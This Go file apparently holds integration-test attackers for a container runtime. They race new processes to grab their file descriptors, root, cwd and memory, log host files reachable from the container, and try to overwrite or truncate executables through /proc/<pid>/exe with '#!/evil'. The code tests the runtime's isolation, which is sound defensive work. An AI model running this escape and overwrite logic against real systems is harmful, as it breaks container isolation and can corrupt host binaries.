package security

import (
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"time"

	"rt/integration/leak"

	"golang.org/x/sys/unix"
)

// catch is what the attacker has got of the stages that it met.
type catch struct {
	Met      int            // processes
	Got      map[string]int // what, how often
	Foreign  []string       // of what it got: what is not the container's
	Power    []string       // the capability sets that it met, "PERMITTED BOUNDING"
	Attempts int
}

func (c *catch) got(what string, err error) bool {
	c.Attempts++
	if err != nil {
		return false
	}
	c.Got[what]++
	return true
}

func comm(pid int) string {
	data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
	return strings.TrimSpace(string(data))
}

// attackGrab waits for new processes of the pid namespace, the next one of which
// has the next number, and tries to get at what they hold. It ends when the file /stop exists.
func attackGrab(args []string) error {
	own := map[string]bool{} // mounts of this container
	for _, m := range leak.Mounts("/proc/self/mountinfo") {
		own[m.ID] = true
	}
	var root unix.Stat_t
	if err := unix.Stat("/", &root); err != nil {
		return err
	}
	c := catch{Got: map[string]int{}}
	fmt.Println("ready")
	next := lastPid() + 1
	for i := 0; ; i++ {
		fd, err := unix.PidfdOpen(next, 0)
		if err != nil {
			if i%4096 == 0 {
				if last := lastPid(); last >= next {
					next = last + 1 // one was missed
				}
				if _, err := os.Stat("/stop"); err == nil {
					break
				}
			}
			continue
		}
		c.pounce(next, fd, own, &root)
		unix.Close(fd)
		next++
	}
	return json.NewEncoder(os.Stdout).Encode(c)
}

func lastPid() int {
	data, _ := os.ReadFile("/proc/loadavg")
	f := bytes.Fields(data)
	n, _ := strconv.Atoi(string(f[len(f)-1]))
	return n
}

// pounce tries everything on one process while it is a stage.
func (c *catch) pounce(pid, pidfd int, own map[string]bool, root *unix.Stat_t) {
	// First what is there for the shortest time.
	for fd := 3; fd < 24; fd++ {
		got, err := unix.PidfdGetfd(pidfd, fd, 0)
		if err != nil {
			c.Attempts++
			continue
		}
		if c.stage(pid) {
			c.got("pidfd_getfd", nil)
			c.foreign(got, own)
		}
		unix.Close(got)
	}
	if comm(pid) != "rt-stage" {
		return
	}
	c.Met++
	c.power(pid)
	p := fmt.Sprintf("/proc/%d/", pid)
	for _, name := range []string{"exe", "root", "cwd"} {
		fd, err := unix.Open(p+name, unix.O_PATH|unix.O_CLOEXEC, 0)
		if err == nil && c.stage(pid) && c.got(name, nil) {
			var st unix.Stat_t
			if unix.Fstat(fd, &st) == nil && name == "root" && (st.Dev != root.Dev || st.Ino != root.Ino) {
				c.Foreign = append(c.Foreign, fmt.Sprintf("root of process %d is %d:%d", pid, st.Dev, st.Ino))
			}
			if name != "exe" {
				c.foreign(fd, own)
			}
		}
		c.Attempts++
		unix.Close(fd)
	}
	fds, err := os.ReadDir(p + "fd")
	if err != nil {
		c.Attempts++
	}
	// That there is a number tells nothing yet: what it is counts.
	for _, e := range fds {
		if n, _ := strconv.Atoi(e.Name()); n < 3 {
			continue
		}
		c.Attempts++
		if fd, err := unix.Open(filepath.Join(p, "fd", e.Name()), unix.O_PATH|unix.O_CLOEXEC, 0); err == nil {
			if c.stage(pid) {
				c.got("fd", nil)
				c.foreign(fd, own)
			}
			unix.Close(fd)
		}
	}
	if fd, err := unix.Open(p+"mem", unix.O_RDWR|unix.O_CLOEXEC, 0); err == nil {
		if c.stage(pid) {
			c.got("mem", nil)
		}
		unix.Close(fd)
	}
	c.Attempts++
}

// power notes what whoever took the process over would gain.
func (c *catch) power(pid int) {
	data, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil || !c.stage(pid) {
		return
	}
	var sets [2]string
	for line := range strings.Lines(string(data)) {
		for i, name := range []string{"CapPrm:", "CapBnd:"} {
			if value, ok := strings.CutPrefix(line, name); ok {
				sets[i] = strings.TrimSpace(value)
			}
		}
	}
	if both := sets[0] + " " + sets[1]; !slices.Contains(c.Power, both) {
		c.Power = append(c.Power, both)
	}
}

// stage says whether what has just succeeded was done to a stage, and not to the
// program that it has become.
func (c *catch) stage(pid int) bool { return comm(pid) == "rt-stage" }

// foreign notes a descriptor of a file or directory of the host's. One of no
// mount at all (a socket, a pipe, a memfd, a namespace) leads nowhere.
func (c *catch) foreign(fd int, own map[string]bool) {
	var st unix.Stat_t
	var fs unix.Statfs_t
	if unix.Fstat(fd, &st) != nil || unix.Fstatfs(fd, &fs) != nil {
		return
	}
	if kind := st.Mode & unix.S_IFMT; kind != unix.S_IFDIR && kind != unix.S_IFREG && kind != unix.S_IFCHR && kind != unix.S_IFBLK {
		return
	}
	info, _ := os.ReadFile(fmt.Sprintf("/proc/self/fdinfo/%d", fd))
	_, id, _ := strings.Cut(string(info), "mnt_id:")
	id = strings.TrimSpace(strings.SplitN(id, "\n", 2)[0])
	name, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
	if own[id] || strings.HasPrefix(name, "/memfd:") || fs.Type == unix.NSFS_MAGIC || strings.HasPrefix(name, "/dev/null") {
		return
	}
	// How far up does it lead?
	above := 0
	for at := fd; st.Mode&unix.S_IFMT == unix.S_IFDIR && above < 20; above++ {
		up, err := unix.Openat(at, "..", unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			break
		}
		var there, here unix.Stat_t
		unix.Fstat(up, &there)
		unix.Fstat(at, &here)
		if at != fd {
			unix.Close(at)
		}
		if at = up; there.Ino == here.Ino && there.Dev == here.Dev {
			break
		}
	}
	// Its own cgroup, with no way up and no way to write.
	if above == 0 && fs.Type == unix.CGROUP2_SUPER_MAGIC && unix.Mkdirat(fd, "rt-attacker", 0o755) == unix.EROFS {
		return
	}
	if len(c.Foreign) < 20 {
		c.Foreign = append(c.Foreign, fmt.Sprintf("%s (mode %o, file system %#x, mount %s, leads %d up)", name, st.Mode, fs.Type, id, above))
	}
}

// attackOverwrite holds the executable of each process that it meets, and writes
// to it once the process is gone.
func attackOverwrite(args []string) error {
	held := map[string]int{} // by inode
	fmt.Println("ready")
	next := lastPid() + 1
	for i := 0; len(held) < 500; i++ {
		pidfd, err := unix.PidfdOpen(next, 0)
		if err != nil {
			if i%4096 == 0 {
				if last := lastPid(); last >= next {
					next = last + 1
				}
				if _, err := os.Stat("/stop"); err == nil {
					break
				}
			}
			continue
		}
		fd, err := unix.Open(fmt.Sprintf("/proc/%d/exe", next), unix.O_RDONLY|unix.O_CLOEXEC, 0)
		unix.Close(pidfd)
		next++
		if err != nil {
			continue
		}
		var st unix.Stat_t
		unix.Fstat(fd, &st)
		name, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", fd))
		key := fmt.Sprintf("%d:%d %s", st.Dev, st.Ino, name)
		if _, ok := held[key]; ok {
			unix.Close(fd)
		} else {
			held[key] = fd
		}
	}
	time.Sleep(100 * time.Millisecond)
	for key, fd := range held {
		fmt.Println("held", key)
		self := fmt.Sprintf("/proc/self/fd/%d", fd)
		if strings.Contains(key, "/bin/") || strings.Contains(key, "/attacker") {
			continue // the container's own
		}
		w, err := unix.Open(self, unix.O_WRONLY|unix.O_CLOEXEC, 0)
		if err == nil {
			_, err = unix.Write(w, []byte("#!/evil"))
			if err == nil {
				fmt.Println("WRITTEN", key)
			}
			if unix.Ftruncate(w, 0) == nil {
				fmt.Println("TRUNCATED", key)
			}
			unix.Close(w)
		}
		fmt.Println("write", key, err)
		if unix.Truncate(self, 0) == nil {
			fmt.Println("TRUNCATED", key)
		}
	}
	return nil
}
